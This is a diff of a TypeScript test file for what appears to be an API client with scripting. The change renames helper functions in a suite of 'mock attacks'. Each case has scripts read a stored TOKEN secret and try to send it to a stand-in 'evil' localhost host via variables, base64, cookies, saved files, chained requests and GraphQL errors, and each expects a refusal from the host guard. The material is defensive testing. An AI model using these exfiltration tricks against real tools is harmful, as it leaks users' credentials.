@@ -5,7 +5,7 @@ import type { Lab, Outcome } from './lab.js';
 import type { Attack } from './more.js';
 
 const hostRefusal = /^SECRET_HOST_REFUSED$/;
-const away = (lab: Lab, path = ''): string => `http://localhost:${lab.evil}${path}`;
+const getEvilUrl = (lab: Lab, path = ''): string => `http://localhost:${lab.evil}${path}`;
 
 /** A request whose script answers it itself, so that nothing is sent and no guard is asked. */
 const sendMocked = (lab: Lab, answer: string, more: object = {}, url = `http://127.0.0.1:${lab.home}/`) =>
@@ -19,13 +19,13 @@ const inBody =
   "return new ServiceResponse(JSON.stringify({ token }), { status: 200, headers: { 'content-type': 'application/json', 'x-token': token } });";
 
 /** What is sent of a variable that the answer of a script was stored in. */
-const copied = async (lab: Lab, onResponse: string): Promise<Outcome> => {
+const sendStoredAnswer = async (lab: Lab, onResponse: string): Promise<Outcome> => {
   await lab.execute({
     url: `http://127.0.0.1:${lab.home}/`,
     script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${inBody} }
 export function onResponse(req, res) { ${onResponse} }`,
   });
-  return lab.send({ url: away(lab, '/{{MOCKED}}') });
+  return lab.send({ url: getEvilUrl(lab, '/{{MOCKED}}') });
 };
 
 /** Attacks by answers that a script makes up, which are sent nowhere and hold what the script could read. */
@@ -73,19 +73,19 @@ export const mockAttacks: readonly Attack[] = [
     'mocked answers',
     'a copy of its body in a variable',
     hostRefusal,
-    (lab) => copied(lab, "res.env.setVariable('MOCKED', res.json().token);"),
+    (lab) => sendStoredAnswer(lab, "res.env.setVariable('MOCKED', res.json().token);"),
   ],
   [
     'mocked answers',
     'a copy of its header in a secret without hosts',
     hostRefusal,
-    (lab) => copied(lab, "res.env.setSecret('MOCKED', res.headers.get('x-token'));"),
+    (lab) => sendStoredAnswer(lab, "res.env.setSecret('MOCKED', res.headers.get('x-token'));"),
   ],
   [
     'mocked answers',
     'a copy in base64',
     hostRefusal,
-    (lab) => copied(lab, "res.env.setVariable('MOCKED', btoa(res.json().token));"),
+    (lab) => sendStoredAnswer(lab, "res.env.setVariable('MOCKED', btoa(res.json().token));"),
   ],
   [
     'mocked answers',
@@ -97,9 +97,9 @@ export const mockAttacks: readonly Attack[] = [
         lab,
         "return new ServiceResponse('', { status: 200, headers: { 'set-cookie': 'sid=' + token + '; Path=/' } });",
         {},
-        away(lab),
+        getEvilUrl(lab),
       );
-      const outcome = await lab.send({ url: away(lab) });
+      const outcome = await lab.send({ url: getEvilUrl(lab) });
       await lab.call('cookies_clear', {});
       return outcome;
     },
@@ -118,7 +118,7 @@ export const mockAttacks: readonly Attack[] = [
       await lab.call('rest_execute', { id, saveTo: file });
       const saved = await readFile(join(lab.folder, file), 'utf8').catch(String);
       if (saved.includes('Zk3q-7vX')) return saved;
-      return lab.send({ method: 'POST', url: away(lab), body: { type: 'binary', file } });
+      return lab.send({ method: 'POST', url: getEvilUrl(lab), body: { type: 'binary', file } });
     },
   ],
   [
@@ -179,7 +179,7 @@ export function onResponse(req, res) { res.env.setVariable('NEEDED', res.json().
       });
       const got = await lab.call('rest_create', {
         name: `Needing ${Math.random()}`,
-        url: away(lab, '/{{NEEDED}}'),
+        url: getEvilUrl(lab, '/{{NEEDED}}'),
         needs: [id],
       });
       return lab.outcomeOf(await lab.call('rest_execute', { id: got.id }));
@@ -198,7 +198,7 @@ export function onResponse(req, res) { res.env.setVariable('NEEDED', res.json().
       });
       return lab.outcomeOf(
         await lab.execute({
-          url: away(lab),
+          url: getEvilUrl(lab),
           script: `export async function onRequest(req) { const { token } = (await execute('${name}')).json(); req.headers.set('x', token); }`,
         }),
       );
@@ -211,7 +211,7 @@ export function onResponse(req, res) { res.env.setVariable('NEEDED', res.json().
     async (lab) => {
       const { id } = await lab.call('graphql_create', {
         name: `G${Math.random()}`,
-        url: away(lab),
+        url: getEvilUrl(lab),
         query: '{ a }',
         script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); return new ServiceResponse(JSON.stringify({ data: null, errors: [{ message: token, path: [token] }] }), { headers: { 'content-type': 'application/json' } }); }`,
       });
